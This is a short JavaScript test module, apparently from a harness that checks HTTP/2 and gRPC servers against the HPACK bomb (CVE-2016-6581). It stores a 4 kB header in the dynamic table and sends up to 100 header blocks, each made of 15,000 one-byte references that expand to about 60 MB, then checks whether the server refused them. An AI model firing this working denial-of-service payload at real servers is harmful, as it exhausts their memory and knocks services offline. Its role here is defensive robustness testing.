// CVE-2016-6581: one byte on the wire names 4 kB of the dynamic table, 15,000 times a block.
import { Code, headers } from "../../raw/frames.mjs";
import { callHead } from "../../raw/grpc.mjs";
import { headerBlock, indexedLiteral } from "../../raw/header-block.mjs";
import { notServed, refusedOrSurvived } from "../verdicts.mjs";

export const name = "HPACK bomb";

export async function attack(target) {
  const connection = await target.open();
  const head = headerBlock(callHead(target.service.unary.path));
  const bomb = Buffer.alloc(15_000, 0x80 | 62);
  const ids = [];
  for (let i = 0; i < 100 && !connection.ended; i++) {
    const id = 2 * i + 1;
    const first = i === 0 ? indexedLiteral("x-bomb", "b".repeat(4000)) : Buffer.alloc(0);
    await connection.pour(headers(id, Buffer.concat([head, first, bomb.subarray(0, 15_000 - first.length)]), { end: true }));
    ids.push(id);
    await connection.over(id, 2000);
  }
  notServed(connection, ids);
  return `${ids.length} blocks of 60 MB each: ${refusedOrSurvived(connection, [Code.ENHANCE_YOUR_CALM, Code.COMPRESSION_ERROR, Code.PROTOCOL_ERROR])}`;
}
